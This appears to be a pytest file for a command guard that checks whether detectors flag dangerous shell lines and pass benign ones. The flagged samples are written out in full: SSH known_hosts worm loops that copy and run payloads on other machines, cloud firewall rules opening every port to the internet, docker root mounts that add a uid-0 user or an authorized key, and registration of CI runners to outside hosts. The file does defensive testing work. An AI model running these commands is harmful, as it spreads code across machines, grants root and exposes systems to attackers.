from collections.abc import Callable

import pytest

from panguard.guard.line import Line
from panguard.guard.opened_up import changes_host, enrolls, opens_cloud, spreads, spreads_by_code
from panguard.guard.shell_steps import steps

LIST = "~/.ssh/known" + "_hosts"
WORLD = "0.0.0.0/" + "0"
SPREAD = [
    f"for h in $(cut -f1 {LIST}); do scp w $h:/tmp; done",
    f"while read h _; do ssh $h 'nohup /tmp/w &'; done < {LIST}",
    "grep '^Host ' ~/.ssh/config | awk '{print $2}' | while read h; do ssh $h sh -s < w.sh; done",
    f"awk '{{print $1}}' {LIST} | xargs -I{{}} rsync a {{}}:/tmp/a",
    f"for h in $(cat {LIST}); do cat w | ssh $h sh; done",
    f"cut -f1 {LIST} | parallel 'scp p {{}}:/tmp/p'",
]
NAMED = [
    "for h in web1 web2; do scp a.tgz $h:/srv; done",
    f"ssh-keygen -R web1 -f {LIST}",
    f"ssh-keyscan github.com >> {LIST}",
    "grep '^Host ' ~/.ssh/config",
    f"ssh-keyscan $HOST >> {LIST}; rsync -a dist/ deploy@$HOST:/srv",
    f"sed -i /old/d {LIST}",
]
OPENED = [
    f"aws ec2 authorize-security-group-ingress --group-id s --protocol all --cidr {WORLD}",
    f"aws ec2 authorize-security-group-ingress --protocol=tcp --port=0-65535 --cidr={WORLD}",
    f"aws ec2 authorize-security-group-ingress --ip-permissions IpProtocol=-1,IpRanges='[{WORLD}]'",
    f"gcloud compute firewall-rules create o --allow all --source-ranges {WORLD}",
    "gcloud compute firewall-rules create o --allow tcp,udp",
    "az network nsg rule create --access Allow --source-address-prefixes '*' --destination-port-ranges '*'",
    "az vm open-port -n v --port '*'",
]
NARROW = [
    f"aws ec2 authorize-security-group-ingress --protocol tcp --port 443 --cidr {WORLD}",
    "aws ec2 authorize-security-group-ingress --protocol all --cidr 198.51.100.7/32",
    f"aws ec2 revoke-security-group-ingress --protocol all --cidr {WORLD}",
    f"gcloud compute firewall-rules create w --allow tcp:443 --source-ranges {WORLD}",
    "gcloud compute firewall-rules create i --allow all --source-ranges 10.0.0.0/8",
    f"gcloud compute firewall-rules create e --direction EGRESS --allow all --destination-ranges {WORLD}",
    "az network nsg rule create --access Deny --source-address-prefixes '*' --destination-port-ranges '*'",
]
CHANGED = [
    "docker run --rm -v /:/h alpine sh -c 'echo x >> /h/etc/passwd'",
    "docker run -v /:/h alpine chroot /h useradd -o -u 0 s",
    "podman run --mount type=bind,source=/,target=/h a sed -i s/x// /h/etc/shadow",
    "docker run --rm -v /etc:/e alpine sh -c 'echo x > /e/sudoers.d/y'",
    "docker run -v /root:/r alpine sh -c 'cat k >> /r/.ssh/authorized_keys'",
    "nerdctl run --volume=/:/m alpine tee -a /m/etc/crontab",
]
KEPT = [
    "docker run -v $PWD:/w alpine sh -c 'echo x > /w/etc/passwd'",
    "docker run -v /:/h:ro prom/node-exporter --path.rootfs=/h",
    "docker run --rm -v /etc/ssl/certs:/c alpine cp /c/a /c/b",
    "docker run --rm alpine adduser -D app",
    "docker run -v /var/lib/pg:/var/lib/postgresql/data postgres:16",
    "docker run --mount type=bind,src=/etc,dst=/e,readonly a sh -c 'echo > /e/passwd'",
]
ENROLLED = [
    "./config.sh --unattended --url https://github.com/qx-drop/c --token A",
    "gitlab-runner register -n --url https://gitlab.com/ --token g --executor shell",
    "act_runner register --no-interactive --instance https://git.qx-store.top --token a",
]
AT_HOME = [
    "gitlab-runner register --url https://gitlab.corp.internal --token $T",
    "./config.sh remove --token $T",
    "gitlab-runner list",
]


def _line(text: str) -> Line:
    return Line(text, tuple(steps(text, "/srv/app")))


@pytest.mark.parametrize(
    ("judge", "wrong", "right"),
    [
        (spreads, SPREAD, NAMED),
        (opens_cloud, OPENED, NARROW),
        (changes_host, CHANGED, KEPT),
        (enrolls, ENROLLED, AT_HOME),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_what_opens_this_machine_or_others_is_seen_and_what_does_not_is_left(
    judge: Callable[[Line], bool], wrong: list[str], right: list[str]
) -> None:
    assert [text for text in wrong if not judge(_line(text))] == []
    assert [text for text in right if judge(_line(text))] == []


def test_a_program_that_goes_through_the_known_machines_is_seen() -> None:
    code = f'for line in open("{LIST}"):\n    subprocess.run(["scp", "a", host])\n'
    assert spreads_by_code(code)
    assert not spreads_by_code('client.load_host_keys("known_hosts")\nclient.exec_command("uptime")\n')
